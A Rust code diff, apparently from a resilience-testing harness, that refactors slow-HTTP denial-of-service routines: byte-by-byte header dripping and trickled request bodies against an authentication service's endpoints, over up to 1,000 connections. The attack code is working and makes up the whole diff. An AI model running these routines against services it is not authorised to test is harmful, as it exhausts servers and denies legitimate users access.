@@ -6,7 +6,7 @@ use std::time::Duration;
 
 use tokio::time::sleep;
 
-use super::super::ground::{Ground, Peer};
+use super::super::attack_context::{AttackConnection, AttackContext};
 
 const CONNECTIONS: u64 = 1_000;
 const CONNECTIONS_OF_OPERATORS: u64 = 200;
@@ -22,13 +22,13 @@ pub(in super::super) fn heads_rate() -> String {
     format!("{}; {CONNECTIONS_OF_OPERATORS} at the operators'", rate())
 }
 
-pub(in super::super) async fn heads(ground: Arc<Ground>) {
-    let count = ground.either(CONNECTIONS, CONNECTIONS_OF_OPERATORS);
-    ground.lanes(count, OPENED_PER_SECOND, one_head).await;
+pub(in super::super) async fn heads(context: Arc<AttackContext>) {
+    let count = context.either(CONNECTIONS, CONNECTIONS_OF_OPERATORS);
+    context.lanes(count, OPENED_PER_SECOND, one_head).await;
 }
 
-async fn one_head(ground: Arc<Ground>, _: u64) -> io::Result<()> {
-    let mut peer = ground.dial().await?;
+async fn one_head(context: Arc<AttackContext>, _: u64) -> io::Result<()> {
+    let mut peer = context.dial().await?;
     drip(&mut peer, b"GET /v1/client/user-authenticators HTTP/1.1\r\nhost: x\r\nx-a: ").await?;
     loop {
         drip(&mut peer, b"a").await?;
@@ -39,12 +39,12 @@ pub(in super::super) fn bodies_rate() -> String {
     rate()
 }
 
-pub(in super::super) async fn bodies(ground: Arc<Ground>) {
-    ground.lanes(CONNECTIONS, OPENED_PER_SECOND, one_body).await;
+pub(in super::super) async fn bodies(context: Arc<AttackContext>) {
+    context.lanes(CONNECTIONS, OPENED_PER_SECOND, one_body).await;
 }
 
-async fn one_body(ground: Arc<Ground>, _: u64) -> io::Result<()> {
-    let mut peer = ground.dial().await?;
+async fn one_body(context: Arc<AttackContext>, _: u64) -> io::Result<()> {
+    let mut peer = context.dial().await?;
     let head = "POST /v1/client/challenge/push HTTP/1.1\r\nhost: x\r\nauthorization: Bearer x\r\n\
                 content-type: application/json\r\ncontent-length: 16000\r\n\r\n";
     peer.send(head.as_bytes()).await?;
@@ -53,7 +53,7 @@ async fn one_body(ground: Arc<Ground>, _: u64) -> io::Result<()> {
     }
 }
 
-async fn drip(peer: &mut Peer, bytes: &[u8]) -> io::Result<()> {
+async fn drip(peer: &mut AttackConnection, bytes: &[u8]) -> io::Result<()> {
     for byte in bytes {
         peer.send(&[*byte]).await?;
         sleep(BETWEEN).await;
